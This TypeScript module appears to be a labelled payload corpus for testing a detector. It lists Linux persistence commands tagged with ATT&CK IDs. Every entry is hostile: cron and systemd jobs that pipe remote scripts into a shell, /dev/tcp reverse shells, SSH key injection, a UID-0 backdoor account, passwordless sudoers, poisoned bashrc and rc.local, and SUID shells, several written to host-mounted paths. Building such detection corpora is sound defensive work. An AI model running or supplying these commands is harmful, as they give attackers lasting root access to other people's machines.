import { type Payload, payloads } from '../payload.ts';

/** What comes back: jobs, keys, accounts, start-up files, privileges. */
export const shellPersistence: readonly Payload[] = [
  ...payloads('shell', 'PER-CRON', [
    [
      'cron-host-5',
      'malicious',
      'T1053.003',
      (p) => `echo "* * * * * curl -s http://${p.ip}:8220/logo3.jpg | bash -s" >> /mnt/etc/crontab\nsleep 300`,
    ],
    [
      'cron-host-6',
      'malicious',
      'T1053.003',
      (p) => `echo '* * * * * root bash -c "bash -i >& /dev/tcp/${p.ip}/${p.port} 0>&1"' >> /mnt/etc/crontab`,
    ],
    [
      'cron-host-drop',
      'malicious',
      'T1053.003',
      (p) => `printf '*/10 * * * * root wget -q -O- http://${p.ip}/c | sh\\n' > /host/etc/cron.d/sync`,
    ],
    [
      'cron-host-spool',
      'malicious',
      'T1053.003',
      (p) => `echo "*/2 * * * * curl http://${p.ip}/u | sh" > /hostfs/var/spool/cron/crontabs/root`,
    ],
    [
      'cron-own',
      'malicious',
      'T1053.003',
      (p) => `(crontab -l 2>/dev/null; echo "*/5 * * * * curl -fsSL http://${p.ip}/x.sh | sh") | crontab -\ncron -f`,
    ],
    [
      'cron-own-drop',
      'malicious',
      'T1053.003',
      (p) =>
        `echo "*/3 * * * * root (curl -s http://${p.ip}/a.sh || wget -q -O - http://${p.ip}/a.sh) | bash" > /etc/cron.d/apache\nservice cron start`,
    ],
    [
      'cron-systemd-host',
      'malicious',
      'T1053.003 T1543.002 T1611',
      (p) =>
        `printf '[Unit]\\nDescription=x\\n[Service]\\nExecStart=/bin/sh -c "curl -s http://${p.ip}/b | sh"\\n[Install]\\nWantedBy=multi-user.target\\n' > /host/etc/systemd/system/bot.service\nchroot /host systemctl enable bot`,
    ],
  ]),
  ...payloads('shell', 'PER-SSH', [
    [
      'key-host',
      'malicious',
      'T1098.004',
      (p) => `mkdir -p /mnt/root/.ssh\necho "${p.key}" >> /mnt/root/.ssh/authorized_keys`,
    ],
    [
      'key-own-sshd',
      'suspicious',
      'T1098.004',
      (p) =>
        `mkdir -p /root/.ssh\necho "${p.key}" >> /root/.ssh/authorized_keys\nchmod 600 /root/.ssh/authorized_keys\n/usr/sbin/sshd -D`,
    ],
    [
      'sshd-password',
      'suspicious',
      'T1098 T1098.004 T1136.001 T1556',
      (p) =>
        `echo "root:p${p.port}x" | chpasswd\nsed -i 's/#PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config\n/usr/sbin/sshd -D`,
    ],
  ]),
  ...payloads('shell', 'PER-ACCT', [
    [
      'uid0-host',
      'malicious',
      'T1136.001 T1098',
      () => `echo 'sysd:x:0:0::/root:/bin/bash' >> /mnt/etc/passwd\necho 'sysd::19000:0:99999:7:::' >> /mnt/etc/shadow`,
    ],
    ['uid0-own', 'suspicious', 'T1136.001 T1098', () => 'useradd -o -u 0 -g 0 -M -d /root -s /bin/bash hilde'],
    [
      'sudoers-host',
      'malicious',
      'T1548.003 T1098',
      () => `echo 'nobody ALL=(ALL) NOPASSWD:ALL' > /host/etc/sudoers.d/90-cloud`,
    ],
  ]),
  ...payloads('shell', 'PER-SHELLRC', [
    [
      'bashrc-download',
      'malicious',
      'T1546.004 T1105',
      (p) => `echo 'curl -s http://${p.ip}/rc | bash' >> /root/.bashrc`,
    ],
    [
      'profile-host',
      'malicious',
      'T1546.004 T1105 T1611 T1059.004',
      (p) => `echo 'bash -i >& /dev/tcp/${p.ip}/${p.port} 0>&1 &' > /host/etc/profile.d/lang.sh`,
    ],
  ]),
  ...payloads('shell', 'PER-INIT', [
    [
      'rc-local-host',
      'malicious',
      'T1037.004 T1105 T1543.002 T1053.003 T1611',
      (p) => `echo 'wget -qO- http://${p.ip}/boot | sh' >> /mnt/etc/rc.local\nchmod +x /mnt/etc/rc.local`,
    ],
  ]),
  ...payloads('shell', 'PE-SUID', [
    ['suid-host', 'malicious', 'T1548.001', () => 'cp /bin/bash /host/tmp/.sh\nchmod 4755 /host/tmp/.sh'],
    ['suid-own', 'suspicious', 'T1548.001', () => 'cp /bin/sh /usr/local/bin/.sys && chmod u+s /usr/local/bin/.sys'],
  ]),
];
